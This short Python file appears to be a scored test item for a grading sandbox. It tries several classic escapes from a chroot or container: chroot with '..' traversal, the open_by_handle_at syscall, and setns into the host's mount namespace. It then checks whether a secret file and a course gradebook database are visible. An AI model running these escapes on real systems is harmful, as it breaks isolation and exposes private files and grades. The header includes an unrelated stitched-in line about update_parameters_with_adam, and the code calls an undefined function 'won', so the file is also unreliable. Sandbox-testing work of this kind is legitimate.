# what: leaves the sandbox's root by the old ways: chroot and .., pivot_root, open_by_handle_at, setns
# points: 20
# mistakes: flag: rules
# %% extra after update_parameters_with_adam
#: won
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: os.chroot("/tmp"), lambda: os.chdir("../" * 40), lambda: os.chroot("."),
                lambda: libc.syscall(304, -100, b"x" * 32, 0), lambda: libc.setns(os.open("/proc/1/ns/mnt", 0), 0)):
    try:
        print(attempt())
    except OSError as error:
        print(error)
for path in ("@HOME@/secret.txt", "@COURSE@/gradebook.db"):
    if os.path.exists(path):
        won("sees", path)
